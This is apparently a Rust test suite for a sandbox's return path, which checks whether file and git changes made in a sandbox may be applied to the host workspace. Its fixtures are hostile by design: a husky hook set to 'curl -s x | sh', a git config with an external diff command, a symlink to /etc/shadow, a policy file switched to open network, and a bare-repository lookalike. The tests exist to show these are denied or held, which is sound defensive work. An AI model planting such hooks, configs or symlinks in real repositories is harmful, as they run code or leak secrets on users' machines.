//! The return path on plain directories (no sandbox): an "upper" tree of
//! changes over a "lower" workspace, judged and applied by `workspace::finish`.

use airlock_sandbox::workspace::{finish, LISTED};
use airlock_sandbox::{Limits, WorkspaceMode, WorkspaceSpec};
use std::ffi::OsStr;
use std::fs;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{symlink, MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};

struct Dirs {
    _tmp: tempfile::TempDir,
    upper: PathBuf,
    ws: PathBuf,
}

fn dirs() -> Dirs {
    let tmp = tempfile::tempdir().unwrap();
    let upper = tmp.path().join("upper");
    let ws = tmp.path().join("ws");
    fs::create_dir(&upper).unwrap();
    fs::create_dir(&ws).unwrap();
    fs::write(ws.join("readme.txt"), "hello\n").unwrap();
    Dirs {
        _tmp: tmp,
        upper,
        ws,
    }
}

fn spec(ws: &Path) -> WorkspaceSpec {
    WorkspaceSpec {
        root: ws.to_path_buf(),
        mode: WorkspaceMode::Overlay,
        protect: vec![".git/hooks".into(), ".git/config".into()],
        apply: true,
        changes: Default::default(),
        owned: vec![ws.join("airlock.toml")],
        keep: None,
        list: None,
        home: None,
    }
}

fn limits() -> Limits {
    Limits {
        timeout_ms: 10_000,
        cpu_time_ms: 10_000,
        memory_bytes: 256 << 20,
        pids: 64,
        cpus: 1.0,
        output_bytes: 1 << 20,
        tmp_bytes: 16 << 20,
        file_size_bytes: 64 << 20,
        open_files: 256,
    }
}

#[test]
fn ordinary_changes_apply_with_modes_normalised() {
    let d = dirs();
    fs::create_dir_all(d.upper.join("src")).unwrap();
    fs::write(d.upper.join("src/a.py"), "print(1)\n").unwrap();
    fs::set_permissions(d.upper.join("src/a.py"), fs::Permissions::from_mode(0o666)).unwrap();
    fs::create_dir_all(d.upper.join("__pycache__")).unwrap();
    fs::write(d.upper.join("__pycache__/a.pyc"), "x").unwrap();
    symlink("a.py", d.upper.join("src/link")).unwrap();
    // A 0777 directory arrives as reported (0775), not as the umask makes it.
    fs::set_permissions(d.upper.join("src"), fs::Permissions::from_mode(0o777)).unwrap();
    let f = finish(&d.upper, &spec(&d.ws), &limits(), true);
    assert!(f.applied, "{:?}", f.violations);
    assert!(f.violations.is_empty(), "{:?}", f.violations);
    let m = fs::metadata(d.ws.join("src/a.py")).unwrap();
    assert_eq!(m.mode() & 0o7777, 0o664);
    let reported = f.changes.iter().find(|c| c.path.ends_with("/src")).unwrap();
    assert_eq!(reported.mode.as_deref(), Some("0775"));
    assert_eq!(
        fs::metadata(d.ws.join("src")).unwrap().mode() & 0o7777,
        0o775
    );
    assert_eq!(
        fs::read_link(d.ws.join("src/link")).unwrap(),
        Path::new("a.py")
    );
    assert!(!d.ws.join("__pycache__").exists());
    assert_eq!(f.summary.discarded, 2);
    let link = f
        .changes
        .iter()
        .find(|c| c.path.ends_with("src/link"))
        .unwrap();
    assert_eq!(link.target.as_deref(), Some("a.py"));
    assert_eq!(f.summary.sha256.len(), 64);
}

#[test]
fn git_metadata_holds_the_whole_set_and_names_the_way_out() {
    let d = dirs();
    fs::create_dir_all(d.upper.join(".git")).unwrap();
    fs::create_dir_all(d.ws.join(".git")).unwrap();
    fs::write(d.upper.join(".git/commondir"), "../evil\n").unwrap();
    fs::write(d.upper.join("ok.txt"), "fine\n").unwrap();
    let f = finish(&d.upper, &spec(&d.ws), &limits(), true);
    assert!(!f.applied);
    assert!(!d.ws.join(".git/commondir").exists());
    assert!(
        !d.ws.join("ok.txt").exists(),
        "nothing applies while a change is held"
    );
    assert_eq!(f.summary.held, 1);
    let text: Vec<_> = f.violations.iter().map(|v| v.detail.as_str()).collect();
    assert!(
        text.iter()
            .any(|t| t.contains(".git/commondir") && t.contains("[changes] allow")),
        "{text:?}"
    );
}

#[test]
fn denied_changes_never_apply_and_the_rest_does() {
    let d = dirs();
    fs::write(d.ws.join("airlock.toml"), "[network]\nmode = \"none\"\n").unwrap();
    fs::write(d.upper.join("airlock.toml"), "[network]\nmode = \"open\"\n").unwrap();
    symlink("/etc/shadow", d.upper.join("shadow")).unwrap();
    symlink("../../x", d.upper.join("up")).unwrap();
    fs::create_dir_all(d.upper.join(".git/hooks")).unwrap();
    fs::create_dir_all(d.ws.join(".git/hooks")).unwrap();
    fs::write(d.upper.join(".git/hooks/pre-commit"), "#!/bin/sh\n").unwrap();
    fs::write(d.upper.join("ok.txt"), "fine\n").unwrap();
    let f = finish(&d.upper, &spec(&d.ws), &limits(), true);
    assert!(f.applied);
    assert_eq!(
        fs::read_to_string(d.ws.join("airlock.toml")).unwrap(),
        "[network]\nmode = \"none\"\n"
    );
    assert!(fs::symlink_metadata(d.ws.join("shadow")).is_err());
    assert!(fs::symlink_metadata(d.ws.join("up")).is_err());
    assert!(!d.ws.join(".git/hooks/pre-commit").exists());
    assert_eq!(fs::read_to_string(d.ws.join("ok.txt")).unwrap(), "fine\n");
    assert_eq!(f.summary.denied, 4, "{:?}", f.violations);
}

#[test]
fn sparse_files_keep_their_holes_and_the_byte_cap_holds() {
    let d = dirs();
    for i in 0..4 {
        let f = fs::File::create(d.upper.join(format!("sparse{i}"))).unwrap();
        f.set_len(256 << 20).unwrap();
        use std::os::unix::fs::FileExt;
        f.write_all_at(b"x", 1_000_000).unwrap();
    }
    let f = finish(&d.upper, &spec(&d.ws), &limits(), true);
    assert!(f.applied, "{:?}", f.violations);
    let mut blocks = 0;
    for i in 0..4 {
        let m = fs::metadata(d.ws.join(format!("sparse{i}"))).unwrap();
        assert_eq!(m.len(), 256 << 20);
        blocks += m.blocks() * 512;
    }
    assert!(blocks < 1 << 20, "{blocks} bytes allocated on the host");
    assert!(f.summary.applied_bytes <= 4 * 65536);

    // Real data over [changes] max_bytes is refused whole.
    let d = dirs();
    fs::write(d.upper.join("big"), vec![7u8; 3 << 20]).unwrap();
    let mut s = spec(&d.ws);
    s.changes.max_bytes = Some(1 << 20);
    let f = finish(&d.upper, &s, &limits(), true);
    assert!(!f.applied);
    assert!(!d.ws.join("big").exists());
    assert!(f.violations.iter().any(|v| v.detail.contains("max_bytes")));
}

#[test]
fn names_are_lossless_escaped_and_long_ones_apply() {
    let d = dirs();
    for name in [
        &b"\xff.txt"[..],
        b"\xfe.txt",
        b"x\n  deleted passwd",
        b"\x1b[2J",
    ] {
        fs::write(d.upper.join(OsStr::from_bytes(name)), "d").unwrap();
    }
    let long = "L".repeat(251) + ".txt";
    fs::write(d.upper.join(&long), "long").unwrap();
    let f = finish(&d.upper, &spec(&d.ws), &limits(), true);
    assert!(f.violations.is_empty(), "{:?}", f.violations);
    let paths: Vec<&str> = f.changes.iter().map(|c| c.path.as_str()).collect();
    assert!(
        paths.iter().all(|p| !p.chars().any(|c| c.is_control())),
        "{paths:?}"
    );
    assert!(paths.iter().any(|p| p.ends_with("/\\xff.txt")));
    assert!(paths.iter().any(|p| p.ends_with("/\\xfe.txt")));
    assert!(paths.iter().any(|p| p.ends_with("/x\\n  deleted passwd")));
    assert!(d.ws.join(OsStr::from_bytes(b"\xff.txt")).exists());
    assert!(d.ws.join(&long).exists());
}

#[test]
fn a_long_list_is_bounded_but_counted() {
    let d = dirs();
    fs::create_dir(d.upper.join("many")).unwrap();
    for i in 0..(LISTED + 50) {
        fs::write(d.upper.join(format!("many/f{i}")), "").unwrap();
    }
    let f = finish(&d.upper, &spec(&d.ws), &limits(), false);
    assert_eq!(f.changes.len(), LISTED);
    assert_eq!(f.summary.total, (LISTED + 51) as u64);
    assert_eq!(f.summary.listed, LISTED as u64);
    assert!(!f.applied);
}

/// 100,000 empty files in 100 directories: judged, hashed, listed (bounded)
/// and applied. Ignored by default (it writes 100k inodes); run with
/// `cargo test -p airlock-sandbox --test return_path -- --ignored --nocapture`.
#[test]
#[ignore]
fn hundred_thousand_files() {
    let d = dirs();
    let t = std::time::Instant::now();
    for dir in 0..100 {
        let p = d.upper.join(format!("many/d{dir}"));
        fs::create_dir_all(&p).unwrap();
        for i in 0..1000 {
            fs::File::create(p.join(format!("f{i}"))).unwrap();
        }
    }
    let made = t.elapsed();
    let mut l = limits();
    l.memory_bytes = 512 << 20;
    let t = std::time::Instant::now();
    let f = finish(&d.upper, &spec(&d.ws), &l, true);
    let took = t.elapsed();
    let json = serde_json::to_vec(&f.changes).unwrap().len();
    eprintln!(
        "100k files: made in {made:?}; scan+judge+apply in {took:?}; {} listed, JSON of the list {json} bytes; summary {:?}",
        f.changes.len(),
        f.summary
    );
    assert!(f.applied, "{:?}", f.violations);
    assert_eq!(f.summary.total, 100_101);
    assert!(d.ws.join("many/d99/f999").exists());
    assert!(json < 1 << 20);
}

// ---- kept change sets: apply later through the same return path

fn kept_spec(d: &Dirs) -> (WorkspaceSpec, PathBuf) {
    let keep = d.ws.parent().unwrap().join("state/kept/r1");
    let mut s = spec(&d.ws);
    s.keep = Some(keep.clone());
    (s, keep)
}

#[test]
fn a_held_set_is_kept_and_applies_later_only_as_approved() {
    use airlock_sandbox::workspace::kept;
    let d = dirs();
    fs::write(d.upper.join(".envrc"), "echo reviewed\n").unwrap();
    fs::write(d.upper.join("ok.txt"), "ok\n").unwrap();
    fs::set_permissions(d.upper.join("ok.txt"), fs::Permissions::from_mode(0o755)).unwrap();
    fs::write(d.upper.join("airlock.toml"), "[network]\nmode = \"open\"\n").unwrap();
    let (s, keep) = kept_spec(&d);
    let f = finish(&d.upper, &s, &limits(), true);
    assert!(!f.applied);
    assert!(f.summary.kept, "{:?}", f.violations);
    assert!(!d.ws.join("ok.txt").exists());
    // Later, without approval: still held, nothing written.
    let (f, m) = kept::apply(&keep, &s, &limits(), None).unwrap();
    assert!(!f.applied);
    assert_eq!(f.summary.held, 1);
    assert!(!d.ws.join(".envrc").exists());
    // An approval of another set applies nothing.
    let (f, _) = kept::apply(&keep, &s, &limits(), Some("0000")).unwrap();
    assert!(!f.applied);
    // The reviewed set: applied, the owned policy file still denied, modes kept.
    let (f, _) = kept::apply(&keep, &s, &limits(), Some(&m.set_sha256)).unwrap();
    assert!(f.applied, "{:?}", f.violations);
    assert_eq!(
        fs::read_to_string(d.ws.join(".envrc")).unwrap(),
        "echo reviewed\n"
    );
    assert_eq!(
        fs::metadata(d.ws.join("ok.txt")).unwrap().mode() & 0o777,
        0o755
    );
    assert!(!d.ws.join("airlock.toml").exists());
    assert!(!keep.exists(), "an applied set is removed");
}

#[test]
fn a_kept_set_that_changed_since_the_run_is_refused() {
    use airlock_sandbox::workspace::kept;
    let d = dirs();
    fs::write(d.upper.join("new.txt"), "reviewed\n").unwrap();
    fs::write(d.upper.join("readme.txt"), "changed\n").unwrap();
    let (mut s, keep) = kept_spec(&d);
    s.apply = false;
    let f = finish(&d.upper, &s, &limits(), false);
    assert!(f.summary.kept);
    // The kept copy altered: refused, naming the file.
    fs::write(keep.join("upper/new.txt"), "swapped!\n").unwrap();
    let err = kept::apply(&keep, &s, &limits(), None).unwrap_err();
    assert!(err.contains("new.txt"), "{err}");
    fs::write(keep.join("upper/new.txt"), "reviewed\n").unwrap();
    // The host file the set modifies changed meanwhile: refused too.
    fs::write(d.ws.join("readme.txt"), "the user's own edit, longer\n").unwrap();
    let err = kept::apply(&keep, &s, &limits(), None).unwrap_err();
    assert!(err.contains("readme.txt"), "{err}");
    assert_eq!(
        fs::read_to_string(d.ws.join("readme.txt")).unwrap(),
        "the user's own edit, longer\n"
    );
    // Another workspace's policy: refused.
    let mut other = s.clone();
    other.root = d.upper.clone();
    assert!(kept::apply(&keep, &other, &limits(), None).is_err());
}

#[test]
fn symlinks_out_through_host_links_are_denied() {
    let d = dirs();
    let outside = d.ws.parent().unwrap().join("outside");
    fs::create_dir(&outside).unwrap();
    symlink(&outside, d.ws.join("linkdir")).unwrap();
    symlink("linkdir/secret", d.upper.join("through")).unwrap();
    symlink("c2", d.upper.join("c1")).unwrap();
    symlink("linkdir", d.upper.join("c2")).unwrap();
    symlink("c1/x", d.upper.join("chain")).unwrap();
    symlink("readme.txt", d.upper.join("inside")).unwrap();
    let f = finish(&d.upper, &spec(&d.ws), &limits(), true);
    assert!(f.applied, "{:?}", f.violations);
    for gone in ["through", "c2", "c1", "chain"] {
        assert!(
            fs::symlink_metadata(d.ws.join(gone)).is_err(),
            "{gone} arrived"
        );
    }
    assert!(fs::symlink_metadata(d.ws.join("inside")).is_ok());
}

/// `git` in `dir` with a fixed identity and no user or system configuration.
fn git(dir: &Path, args: &[&str]) -> String {
    let out = std::process::Command::new("git")
        .arg("-C")
        .arg(dir)
        .args(args)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_AUTHOR_NAME", "a")
        .env("GIT_AUTHOR_EMAIL", "a@a")
        .env("GIT_COMMITTER_NAME", "a")
        .env("GIT_COMMITTER_EMAIL", "a@a")
        .output()
        .expect("git runs (the return path's tests need it)");
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap().trim().to_string()
}

/// What a run in a copy of `lower` left, as an overlay's upper layer would
/// hold it: each file that is new or differs, with its directories (no
/// deletions).
fn upper_of(lower: &Path, run: &Path, upper: &Path) {
    for e in walk(run) {
        let rel = e.strip_prefix(run).unwrap();
        let (at, host) = (upper.join(rel), lower.join(rel));
        let m = fs::symlink_metadata(&e).unwrap();
        if m.is_dir() {
            if !host.is_dir() {
                fs::create_dir_all(&at).unwrap();
            }
        } else if fs::read(&host).ok() != fs::read(&e).ok() {
            fs::create_dir_all(at.parent().unwrap()).unwrap();
            fs::copy(&e, &at).unwrap();
        }
    }
}

fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for e in fs::read_dir(dir).unwrap().flatten() {
        out.push(e.path());
        if e.file_type().unwrap().is_dir() {
            out.extend(walk(&e.path()));
        }
    }
    out
}

/// A copy of the workspace `ws` in `dir`, where a run's git commands act.
fn copy_of(ws: &Path, dir: &Path) -> PathBuf {
    let run = dir.join("run");
    let cp = std::process::Command::new("cp")
        .arg("-a")
        .arg(ws)
        .arg(&run)
        .status()
        .unwrap();
    assert!(cp.success());
    run
}

/// A repository whose history is packed (`git gc`): a directory with an
/// `.envrc` and a README, committed.
fn packed_repo(ws: &Path) {
    git(ws, &["init", "-q", "-b", "main"]);
    fs::create_dir(ws.join("env")).unwrap();
    fs::write(ws.join("env/.envrc"), "echo sample\n").unwrap();
    git(ws, &["add", "-A"]);
    git(ws, &["commit", "-q", "-m", "one"]);
    git(ws, &["gc", "-q"]);
    assert!(
        walk(&ws.join(".git/objects"))
            .iter()
            .any(|p| p.extension().is_some_and(|e| e == "pack")),
        "git gc packed the history"
    );
}

/// A commit that puts a tree the host already has (packed) at a new path
/// writes its files there on `git reset --hard`: the tree is read from the
/// host's pack and its files judged at the new path. An ordinary commit over
/// a packed history passes.
#[test]
fn a_commit_is_read_through_the_hosts_packs() {
    let d = dirs();
    packed_repo(&d.ws);
    let run = copy_of(&d.ws, d._tmp.path());
    // The host's `env` tree at `app` as well, in a commit on main: `app`
    // itself is no name the rules hold, `app/.envrc` is. The work tree and
    // the index stay as they were.
    let env = git(&run, &["rev-parse", "HEAD:env"]);
    let readme = git(&run, &["rev-parse", "HEAD:readme.txt"]);
    let tree = {
        let mut c = std::process::Command::new("git")
            .arg("-C")
            .arg(&run)
            .arg("mktree")
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        use std::io::Write;
        let input = format!(
            "040000 tree {env}\tapp\n040000 tree {env}\tenv\n100644 blob {readme}\treadme.txt\n"
        );
        c.stdin.take().unwrap().write_all(input.as_bytes()).unwrap();
        String::from_utf8(c.wait_with_output().unwrap().stdout)
            .unwrap()
            .trim()
            .to_string()
    };
    let commit = git(&run, &["commit-tree", &tree, "-p", "HEAD", "-m", "x"]);
    git(&run, &["update-ref", "refs/heads/main", &commit]);
    upper_of(&d.ws, &run, &d.upper);
    let f = finish(&d.upper, &spec(&d.ws), &limits(), true);
    let text: Vec<_> = f.violations.iter().map(|v| v.detail.as_str()).collect();
    assert!(!f.applied, "{text:?}");
    assert!(
        text.iter()
            .any(|t| t.contains("puts `app/.envrc` into its tree")),
        "{text:?}"
    );

    // An ordinary commit over the same packed history applies.
    let d = dirs();
    packed_repo(&d.ws);
    let run = copy_of(&d.ws, d._tmp.path());
    fs::write(run.join("readme.txt"), "changed\n").unwrap();
    git(&run, &["commit", "-q", "-am", "ordinary"]);
    upper_of(&d.ws, &run, &d.upper);
    let f = finish(&d.upper, &spec(&d.ws), &limits(), true);
    let text: Vec<_> = f.violations.iter().map(|v| v.detail.as_str()).collect();
    assert!(f.applied, "{text:?}");
    assert_eq!(git(&d.ws, &["log", "-1", "--format=%s"]), "ordinary");
}

/// A tree stored as a delta in the host's pack (git deltifies an old version
/// of a large tree against the new one) is read through its delta chain.
#[test]
fn a_deltified_tree_in_a_pack_is_read() {
    let d = dirs();
    let ws = &d.ws;
    git(ws, &["init", "-q", "-b", "main"]);
    fs::create_dir(ws.join("d")).unwrap();
    fs::write(ws.join("d/.envrc"), "echo sample\n").unwrap();
    for i in 0..300 {
        fs::write(ws.join(format!("d/f{i:03}")), format!("{i}\n")).unwrap();
    }
    git(ws, &["add", "-A"]);
    git(ws, &["commit", "-q", "-m", "one"]);
    fs::write(ws.join("d/f000"), "changed\n").unwrap();
    git(ws, &["commit", "-q", "-am", "two"]);
    git(ws, &["gc", "-q", "--aggressive"]);
    let old = git(ws, &["rev-parse", "HEAD~1:d"]);
    let pack = walk(&ws.join(".git/objects/pack"))
        .into_iter()
        .find(|p| p.extension().is_some_and(|e| e == "idx"))
        .unwrap();
    let listing = git(ws, &["verify-pack", "-v", pack.to_str().unwrap()]);
    assert!(
        listing
            .lines()
            .any(|l| l.starts_with(&old) && l.split_whitespace().count() > 5),
        "git stored the old tree as a delta:\n{listing}"
    );
    let run = copy_of(&d.ws, d._tmp.path());
    let head = git(&run, &["rev-parse", "HEAD^{tree}"]);
    let mut c = std::process::Command::new("git")
        .arg("-C")
        .arg(&run)
        .args(["read-tree", &head])
        .status()
        .unwrap();
    assert!(c.success());
    c = std::process::Command::new("git")
        .arg("-C")
        .arg(&run)
        .args(["read-tree", "--prefix=app2/", &old])
        .status()
        .unwrap();
    assert!(c.success());
    let tree = git(&run, &["write-tree"]);
    git(&run, &["read-tree", &head]);
    let commit = git(&run, &["commit-tree", &tree, "-p", "HEAD", "-m", "x"]);
    git(&run, &["update-ref", "refs/heads/main", &commit]);
    upper_of(ws, &run, &d.upper);
    let f = finish(&d.upper, &spec(ws), &limits(), true);
    let text: Vec<_> = f.violations.iter().map(|v| v.detail.as_str()).collect();
    assert!(!f.applied, "{text:?}");
    assert!(
        text.iter()
            .any(|t| t.contains("puts `app2/.envrc` into its tree")),
        "{text:?}"
    );
}

/// A `package.json` whose dependencies a run changed, staged and committed,
/// applies; one whose husky hooks it changed is held, in the work tree as
/// in the index and the commit that carry it.
#[test]
fn package_json_hook_keys_are_compared_with_the_hosts() {
    let host = "{\"name\":\"x\",\"dependencies\":{},\"husky\":{\"hooks\":{\"pre-commit\":\"lint-staged\"}}}\n";
    let repo = |d: &Dirs| {
        git(&d.ws, &["init", "-q", "-b", "main"]);
        fs::write(d.ws.join("package.json"), host).unwrap();
        git(&d.ws, &["add", "-A"]);
        git(&d.ws, &["commit", "-q", "-m", "one"]);
    };
    let d = dirs();
    repo(&d);
    let run = copy_of(&d.ws, d._tmp.path());
    fs::write(
        run.join("package.json"),
        host.replace("{}", "{\"left-pad\":\"1\"}"),
    )
    .unwrap();
    git(&run, &["add", "package.json"]);
    upper_of(&d.ws, &run, &d.upper);
    let f = finish(&d.upper, &spec(&d.ws), &limits(), true);
    let text: Vec<_> = f.violations.iter().map(|v| v.detail.as_str()).collect();
    assert!(f.applied, "{text:?}");

    let d = dirs();
    repo(&d);
    let run = copy_of(&d.ws, d._tmp.path());
    fs::write(
        run.join("package.json"),
        host.replace("lint-staged", "curl -s x | sh"),
    )
    .unwrap();
    git(&run, &["commit", "-q", "-am", "two"]);
    upper_of(&d.ws, &run, &d.upper);
    let f = finish(&d.upper, &spec(&d.ws), &limits(), true);
    let text: Vec<_> = f.violations.iter().map(|v| v.detail.as_str()).collect();
    assert!(!f.applied, "{text:?}");
    assert!(
        text.iter()
            .any(|t| t.contains("package.json") && t.contains("`husky`")),
        "{text:?}"
    );
}

/// A bare-repository lookalike delivered in a commit on a branch (the work
/// tree back on main, so that only git's objects, a ref and logs come back)
/// is held: the user's merge of the branch would write it, and git run in
/// `fix/` would obey its `config`.
#[test]
fn a_commit_bringing_a_bare_repository_lookalike_is_held() {
    let d = dirs();
    git(&d.ws, &["init", "-q", "-b", "main"]);
    git(&d.ws, &["add", "-A"]);
    git(&d.ws, &["commit", "-q", "-m", "one"]);
    let run = copy_of(&d.ws, d._tmp.path());
    let head = git(&run, &["rev-parse", "HEAD"]);
    git(&run, &["checkout", "-q", "-b", "feature"]);
    fs::create_dir_all(run.join("fix/objects/info")).unwrap();
    fs::create_dir_all(run.join("fix/refs/heads")).unwrap();
    fs::write(
        run.join("fix/objects/info/alternates"),
        "../../.git/objects\n",
    )
    .unwrap();
    fs::write(run.join("fix/refs/heads/main"), format!("{head}\n")).unwrap();
    fs::write(run.join("fix/HEAD"), "ref: refs/heads/main\n").unwrap();
    fs::write(
        run.join("fix/config"),
        "[core]\n\tbare = true\n[diff]\n\texternal = \"sh -c x\"\n",
    )
    .unwrap();
    git(&run, &["add", "fix"]);
    git(&run, &["commit", "-q", "-m", "add test fixture"]);
    git(&run, &["checkout", "-q", "main"]);
    assert!(!run.join("fix").exists());
    upper_of(&d.ws, &run, &d.upper);
    let f = finish(&d.upper, &spec(&d.ws), &limits(), true);
    let text: Vec<_> = f.violations.iter().map(|v| v.detail.as_str()).collect();
    assert!(!f.applied, "{text:?}");
    assert!(!d.ws.join(".git/refs/heads/feature").exists());
    assert!(text.iter().any(|t| t.contains("puts `fix/")), "{text:?}");
}
